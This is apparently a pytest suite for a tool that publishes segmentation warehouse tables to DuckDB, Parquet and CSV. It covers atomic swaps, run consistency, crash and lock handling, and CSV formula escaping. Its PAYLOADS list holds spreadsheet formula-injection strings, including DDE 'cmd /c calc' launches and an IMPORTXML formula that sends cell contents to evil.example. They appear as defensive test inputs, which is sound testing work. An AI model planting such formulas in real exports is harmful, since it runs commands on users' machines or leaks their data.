"""The published copy: whole, of one run, there all the time, and inert in a spreadsheet."""

from __future__ import annotations

import csv
import fcntl
import os
import random
import re
import resource
import runpy
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from report_fixture import RUN_ID, contract, make_warehouse

from segmentry.cli import main
from segmentry.exceptions import PipelineError
from segmentry.publish import publish

SEGMENTRY = Path(sys.executable).with_name("segmentry")
NEXT_RUN = "77e1c0ffee77e1c0"


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # A file called like the schema makes `segmentry.segments` ambiguous for those who do not name the catalog.
    return make_warehouse(tmp_path_factory.mktemp("it's") / "segmentry.duckdb", 5, previous_run=True)


@pytest.fixture
def warehouse(finished: Path, tmp_path: Path) -> Path:
    return Path(shutil.copy(finished, tmp_path / "segmentry.duckdb"))


def change(database: Path, *statements: str) -> None:
    with duckdb.connect(str(database)) as connection:
        for statement in statements:
            connection.execute(statement.replace("segmentry.", f'"{database.stem}".segmentry.'))


def to_next_run(database: Path) -> None:
    """Turn every row of the current run into one of a later run, as another build would."""
    with duckdb.connect(str(database)) as connection:
        tables = connection.execute(
            "select table_name from information_schema.columns where table_schema = 'segmentry' and column_name = 'run_id'"
        ).fetchall()
        for (table,) in tables:
            connection.execute(
                f'update "{database.stem}".segmentry.{table} set run_id = ? where run_id = ?',
                [NEXT_RUN, RUN_ID],
            )


def contents(connection: duckdb.DuckDBPyConnection, relation: str) -> list[tuple[Any, ...]]:
    return connection.sql(f"select * from {relation} order by all").fetchall()


def generations(output: Path) -> list[str]:
    return sorted(path.name for path in (output / ".generations").iterdir())


# ---- what is published ---------------------------------------------------------------------------


def test_every_mart_is_there_in_each_format_and_nothing_else(warehouse: Path, tmp_path: Path) -> None:
    change(
        warehouse,
        "create schema segmentry_internal",
        "create table segmentry_internal.int_segmentry__run as select 'x' as run_id where false",
    )
    copy = publish(warehouse, tmp_path / "published", csv_tables=None)
    assert copy.run_id == RUN_ID
    assert copy.directory == tmp_path / "published" / "current"
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        connection.execute(f"attach '{copy.directory / 'marts.duckdb'}' as marts (read_only)")
        found = connection.sql(
            "select table_schema, table_name from information_schema.tables where table_catalog = 'marts' order by all"
        ).fetchall()
        assert found == [("segmentry", table) for table in copy.tables]
        assert len(found) == len(list((ROOT / "models" / "marts").glob("*.sql")))
        for table in copy.tables:
            original = contents(connection, f'"segmentry".segmentry.{table}')
            assert contents(connection, f"marts.segmentry.{table}") == original
            parquet = f"read_parquet('{copy.directory}/parquet/{table}.parquet')"
            assert contents(connection, parquet) == original
            types = "select column_name, column_type from (describe from {})"
            assert (
                connection.sql(types.format(parquet)).fetchall()
                == connection.sql(types.format(f'"segmentry".segmentry.{table}')).fetchall()
            )
            with (copy.directory / "csv" / f"{table}.csv").open(newline="", encoding="utf-8") as file:
                assert len(list(csv.reader(file))) == len(original) + 1
        # Files that older versions of DuckDB, as BI tools bundle them, can open.
        (tags,) = connection.sql(
            "select tags from duckdb_databases() where database_name = 'marts'"
        ).fetchall()[0]
        assert tags["storage_version"].startswith("v1.2.0")


def test_equal_tables_give_equal_files(warehouse: Path, tmp_path: Path) -> None:
    first = publish(warehouse, tmp_path / "first", csv_tables=None)
    change(
        warehouse,
        *(
            f"create or replace table segmentry.{table} as select * from segmentry.{table} order by hash({table}::text)"
            for table in first.tables
        ),
    )
    second = publish(warehouse, tmp_path / "second", csv_tables=None)
    for kind in ("parquet", "csv"):
        files = sorted((first.directory / kind).iterdir())
        assert len(files) == len(first.tables)
        for file in files:
            assert file.read_bytes() == (second.directory / kind / file.name).read_bytes(), file.name


def test_the_warehouse_is_only_read(warehouse: Path, tmp_path: Path) -> None:
    before = warehouse.read_bytes()
    publish(warehouse, tmp_path / "published")
    assert warehouse.read_bytes() == before
    assert list(tmp_path.glob("segmentry.duckdb*")) == [warehouse]


def test_the_directory_can_be_moved(warehouse: Path, tmp_path: Path) -> None:
    publish(warehouse, tmp_path / "published")
    moved = (tmp_path / "published").rename(tmp_path / "elsewhere")
    with duckdb.connect(str(moved / "current" / "marts.duckdb"), read_only=True) as connection:
        assert connection.sql("select count(*) from segmentry.segments").fetchall() == [(5,)]


# ---- readers -------------------------------------------------------------------------------------

READER = """
import sys, duckdb
with duckdb.connect(sys.argv[1], read_only=True) as connection:
    print(*connection.execute("select distinct run_id from segmentry.segments").fetchone(), flush=True)
    sys.stdin.readline()
    for table in ("customers", "segments", "segment_features", "segment_viability"):
        print(*connection.execute(f"select distinct run_id from segmentry.{table}").fetchone(), flush=True)
"""

WATCHER = """
import sys, duckdb
print("ready", flush=True)
seen = 0
while True:
    with duckdb.connect(sys.argv[1], read_only=True) as connection:
        runs = set()
        for table in ("customers", "segments", "segment_features", "segment_viability", "cluster_selection"):
            runs |= set(connection.sql(f"select distinct run_id from segmentry.{table}").fetchall())
        assert len(runs) == 1, runs
    seen += 1
    print(seen, *runs.pop(), flush=True)
"""


def start(code: str, *arguments: object) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", code, *map(str, arguments)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def test_a_reader_that_holds_the_old_copy_is_not_disturbed(warehouse: Path, tmp_path: Path) -> None:
    copy = publish(warehouse, tmp_path / "published")
    with start(READER, copy.directory / "marts.duckdb") as reader:
        assert reader.stdout is not None
        assert reader.stdout.readline().strip() == RUN_ID
        to_next_run(warehouse)
        assert publish(warehouse, tmp_path / "published").run_id == NEXT_RUN
        output, errors = reader.communicate("go on\n", timeout=60)
    assert output.split() == [RUN_ID] * 4, errors
    with start(READER, copy.directory / "marts.duckdb") as reader:
        output, errors = reader.communicate("go on\n", timeout=60)
    assert output.split() == [NEXT_RUN] * 5, errors
    assert len(generations(tmp_path / "published")) == 1


def test_readers_meet_one_run_at_any_moment_and_no_gap(warehouse: Path, tmp_path: Path) -> None:
    later = Path(shutil.copy(warehouse, tmp_path / "later.duckdb"))
    to_next_run(later)
    copy = publish(warehouse, tmp_path / "published")
    with start(WATCHER, copy.directory / "marts.duckdb") as watcher:
        assert watcher.stdout is not None
        assert watcher.stdout.readline() == "ready\n"
        for database in (later, warehouse) * 3:
            publish(database, tmp_path / "published")
        alive = watcher.poll() is None
        watcher.kill()
        output, errors = watcher.communicate()
    assert alive, errors
    assert {line.split()[1] for line in output.splitlines() if len(line.split()) == 2} == {RUN_ID, NEXT_RUN}


def test_a_reader_of_the_copy_does_not_keep_a_build_out(warehouse: Path, tmp_path: Path) -> None:
    copy = publish(warehouse, tmp_path / "published")
    with start(READER, copy.directory / "marts.duckdb") as reader:
        assert reader.stdout is not None
        assert reader.stdout.readline().strip() == RUN_ID
        change(warehouse, "create table segmentry.written_meanwhile as select 1 as one")
        output, errors = reader.communicate("go on\n", timeout=60)
    assert output.split() == [RUN_ID] * 4, errors


# ---- one run only --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (["update segmentry.segment_features set run_id = 'other'"], "different runs: .*segment_features hold"),
        (
            ["update segmentry.clv_fit set run_id = 'other'", "update segmentry.segments set run_id = 'other'"],
            "segments hold",
        ),
        # A build that was killed after the history, before the table of runs.
        (
            [
                "insert into segmentry.segment_history select * replace ('other' as run_id, recorded_at + interval 1 day as recorded_at) from segmentry.segment_history limit 1"
            ],
            "segment_history hold",
        ),
        # A build that was killed before its first mart with a run.
        (
            [
                "create schema segmentry_internal",
                "create table segmentry_internal.int_segmentry__run as select 'other' as run_id",
            ],
            f"those of run {RUN_ID}, and a later build has begun",
        ),
        (["delete from segmentry.segmentation_runs"], "has no row"),
        (["drop table segmentry.segmentation_runs"], "no table `segmentry.segmentation_runs`"),
    ],
)  # fmt: skip
def test_tables_of_several_runs_are_not_published(
    damage: list[str], message: str, warehouse: Path, tmp_path: Path
) -> None:
    copy = publish(warehouse, tmp_path / "published")
    before = (copy.directory / "marts.duckdb").read_bytes()
    change(warehouse, *damage)
    with pytest.raises(PipelineError, match=f"(?s){message}.*`dbt build`"):
        publish(warehouse, tmp_path / "published")
    assert (copy.directory / "marts.duckdb").read_bytes() == before
    assert len(generations(tmp_path / "published")) == 1


def test_an_earlier_run_in_the_histories_is_no_stranger(warehouse: Path, tmp_path: Path) -> None:
    assert publish(warehouse, tmp_path / "published").run_id == RUN_ID


# ---- faults --------------------------------------------------------------------------------------


def test_a_publication_that_is_killed_leaves_the_old_copy_and_the_next_one_heals(
    warehouse: Path, tmp_path: Path
) -> None:
    output = tmp_path / "published"
    started = time.monotonic()
    subprocess.run(
        [SEGMENTRY, "publish", "--database", warehouse, "--output", output, "--csv"], check=True, capture_output=True
    )  # fmt: skip
    needed = time.monotonic() - started
    to_next_run(warehouse)
    draw = random.Random(7)
    interrupted = 0
    for _ in range(int(os.environ.get("SEGMENTRY_KILLS", "5"))):
        process = subprocess.Popen(
            [SEGMENTRY, "publish", "--database", warehouse, "--output", output, "--csv"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(needed * draw.uniform(0.3, 1))
        process.send_signal(signal.SIGKILL)
        interrupted += process.wait() < 0
        with duckdb.connect(str(output / "current" / "marts.duckdb"), read_only=True) as connection:
            (run,) = {
                row[0] for row in connection.sql("select distinct run_id from segmentry.segments").fetchall()
            }
            for table in ("customers", "segment_features", "segment_viability", "cluster_selection"):
                assert connection.sql(f"select distinct run_id from segmentry.{table}").fetchall() == [(run,)]
        parquet = output / "current" / "parquet" / "customers.parquet"
        assert duckdb.sql(f"select distinct run_id from '{parquet}'").fetchall() == [(run,)]
    assert interrupted
    assert publish(warehouse, output, csv_tables=None).run_id == NEXT_RUN
    assert len(generations(output)) == 1
    assert sorted(path.name for path in output.iterdir()) == [".generations", ".lock", "current"]


def test_a_full_disk_leaves_the_old_copy(warehouse: Path, tmp_path: Path) -> None:
    output = tmp_path / "published"
    publish(warehouse, output)
    to_next_run(warehouse)
    size = (output / "current" / "marts.duckdb").stat().st_size
    failed = subprocess.run(
        [SEGMENTRY, "publish", "--database", warehouse, "--output", output],
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size // 2, size // 2)),
        capture_output=True,
        text=True,
        check=False,
    )
    assert failed.returncode == 1, failed.stderr
    assert "Nothing was published" in failed.stderr
    assert "Traceback" not in failed.stderr
    with duckdb.connect(str(output / "current" / "marts.duckdb"), read_only=True) as connection:
        assert connection.sql("select distinct run_id from segmentry.customers").fetchall() == [(RUN_ID,)]
    assert len(generations(output)) == 1


def test_two_at_once_are_one_too_many(warehouse: Path, tmp_path: Path) -> None:
    output = tmp_path / "published"
    publish(warehouse, output)
    with (output / ".lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        with pytest.raises(PipelineError, match=r"Another process is publishing to .*Wait"):
            publish(warehouse, output)
    publish(warehouse, output)


def test_a_warehouse_that_is_being_written_is_left_alone(warehouse: Path, tmp_path: Path) -> None:
    code = "import sys, duckdb\nwith duckdb.connect(sys.argv[1]):\n    print('open', flush=True)\n    sys.stdin.readline()"
    with start(code, warehouse) as writer:
        assert writer.stdout is not None
        assert writer.stdout.readline() == "open\n"
        with pytest.raises(PipelineError, match=r"(?s)lock.*wait for its end"):
            publish(warehouse, tmp_path / "published")
        writer.communicate("done\n", timeout=60)
    assert generations(tmp_path / "published") == []


def test_what_stands_in_the_way_is_named(warehouse: Path, tmp_path: Path) -> None:
    with pytest.raises(PipelineError, match="no warehouse at"):
        publish(tmp_path / "nothing.duckdb", tmp_path / "published")
    (tmp_path / "file").write_text("taken")
    with pytest.raises(PipelineError, match=r"Nothing was published to .*file"):
        publish(warehouse, tmp_path / "file")
    (tmp_path / "own" / "current").mkdir(parents=True)
    with pytest.raises(PipelineError, match="is not a link"):
        publish(warehouse, tmp_path / "own")
    with pytest.raises(PipelineError, match=r"no table customer, segment in schema .*segments"):
        publish(warehouse, tmp_path / "published", csv_tables=["segment", "segments", "customer"])
    assert generations(tmp_path / "published") == []


# ---- CSV for spreadsheets ------------------------------------------------------------------------

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\",\"click\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n@A1", "x; \t+1", '";=1+1;"', '"\n=1+1',
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "=", "-", "\x0b=1+1", ";;;-2", '=IMPORTXML("http://evil.example?"&A1,"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+A1;=A2", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
HARMLESS = ("", "Loyal", "a = b", "a-b", "x; y", "mail@example.org", "'quoted'", "1 + 1", "Café; Bar", "€5")
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def exported(texts: list[str], directory: Path) -> Path:
    """One CSV of a published table that holds some texts."""
    database = directory / "warehouse.duckdb"
    database.unlink(missing_ok=True)
    with duckdb.connect(str(database)) as connection:
        connection.execute("create schema segmentry")
        connection.execute(
            "create table segmentry.segmentation_runs as select 'r' as run_id, timestamp '2026-01-01' as recorded_at"
        )
        connection.execute(
            'create table segmentry.texts (place integer, amount decimal(18, 2), "a ""b""" text)'
        )
        connection.executemany(
            "insert into segmentry.texts values (?, -1.5, ?)",
            [[place, text] for place, text in enumerate(texts)],
        )
    return publish(database, directory / "published", csv_tables=["texts"]).directory / "csv" / "texts.csv"


def cells(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file, delimiter=delimiter))


def test_formulas_are_text_whatever_separator_opens_the_file(tmp_path: Path) -> None:
    texts = [*PAYLOADS, *HARMLESS]
    path = exported(texts, tmp_path)
    rows = cells(path, ",")[1:]
    assert [row[0] for row in rows] == [str(place) for place in range(len(texts))]
    assert {row[1] for row in rows} == {"-1.50"}, "numbers stay numbers"
    assert [row[2] for row in rows[len(PAYLOADS) :]] == list(HARMLESS)
    assert not [row[2] for row in rows if row[2].strip(" \t\r\n\x0b").startswith(SIGNS)]
    # Taken apart as a spreadsheet does that expects another separator, and a line at a time.
    for piece in re.split(r"[;\t\r\n]", path.read_text(encoding="utf-8")):
        assert not piece.strip(' "\x0b').startswith(SIGNS), piece
    parquet = path.parents[1] / "parquet" / "texts.parquet"
    kept = duckdb.sql(f"select * from '{parquet}' order by place").fetchall()
    assert [row[2] for row in kept] == texts, "other formats keep the text"


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("texts")


@settings(max_examples=int(os.environ.get("SEGMENTRY_EXAMPLES", "15")), deadline=None)
@given(
    texts=st.lists(
        st.text(st.sampled_from([*"=+-@;,\t\r\n\x0b '\"a1", "\uff1d", "é"]), max_size=8),
        min_size=1,
        max_size=30,
    )
)
def test_any_text_is_guarded_and_otherwise_unchanged(texts: list[str], scratch: Path) -> None:
    rows = cells(exported(texts, scratch), ",")[1:]
    for text, row in zip(texts, rows, strict=True):
        assert not row[2].strip(" \t\r\n\x0b").startswith(SIGNS)
        assert row[2].replace("'", "") == text.replace("'", "")
        if not any(sign in text for sign in SIGNS):
            assert row[2] == text


# ---- the command ---------------------------------------------------------------------------------


def test_the_command_and_the_script(
    warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    where = ["--database", str(warehouse), "--output", str(tmp_path / "published")]
    assert main(["publish", *where]) == 0
    said = capsys.readouterr().out
    assert f"Published run {RUN_ID}" in said
    assert str(tmp_path / "published" / "current" / "marts.duckdb") in said
    assert not (tmp_path / "published" / "current" / "csv").exists()
    monkeypatch.setattr(sys, "argv", ["publish.py", *where, "--csv", "segments", "segment_audiences"])
    with pytest.raises(SystemExit) as done:
        runpy.run_path(str(ROOT / "scripts" / "publish.py"), run_name="__main__")
    assert done.value.code == 0
    assert {path.name for path in (tmp_path / "published" / "current" / "csv").iterdir()} == {
        "segments.csv",
        "segment_audiences.csv",
    }
    assert main(["publish", "--database", str(tmp_path / "none.duckdb")]) == 1
    assert "segmentry: There is no warehouse at" in capsys.readouterr().err


# ---- docs/bi.md ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query", re.findall(r"```sql\n(.*?)```", (ROOT / "docs" / "bi.md").read_text(), re.DOTALL)
)
def test_queries_of_the_page_run_on_the_copy(query: str, warehouse: Path, tmp_path: Path) -> None:
    change(
        warehouse,
        "insert into segmentry.segment_audiences by name select customer_id, segment_id, segment_name, 'email' as channel, false as is_holdout, run_id from segmentry.customers",
    )
    copy = publish(warehouse, tmp_path / "published")
    with duckdb.connect(str(copy.directory / "marts.duckdb"), read_only=True) as connection:
        found = connection.sql(query)
        assert "order by" in query
        assert len(found.columns) >= 3
        assert found.fetchall()


def test_the_dashboard_reads_columns_of_the_contract() -> None:
    folder = ROOT / "docs" / "bi" / "superset"
    tables = {}
    for file in folder.glob("datasets/*/*.yaml"):
        dataset = yaml.safe_load(file.read_text())
        columns = {name for name, _, _ in contract()[dataset["table_name"]]}
        assert dataset["schema"] == "segmentry"
        assert {column["column_name"] for column in dataset["columns"]} == columns, (
            "export the dashboard again"
        )
        tables[dataset["uuid"]] = columns
    charts = [yaml.safe_load(file.read_text()) for file in folder.glob("charts/*.yaml")]
    assert len(charts) == 5
    for chart in charts:
        params = chart["params"]
        metrics = [*params.get("metrics", []), *filter(None, [params.get("metric")])]
        used = {metric["column"]["column_name"] for metric in metrics} | set(params.get("all_columns", []))
        used |= {params[name] for name in ("x_axis", "source", "target") if name in params}
        assert used <= tables[chart["dataset_uuid"]], chart["slice_name"]
    (dashboard,) = (yaml.safe_load(file.read_text()) for file in folder.glob("dashboards/*.yaml"))
    placed = {
        part["meta"]["uuid"]
        for part in dashboard["position"].values()
        if isinstance(part, dict) and part["type"] == "CHART"
    }
    assert placed == {chart["uuid"] for chart in charts}
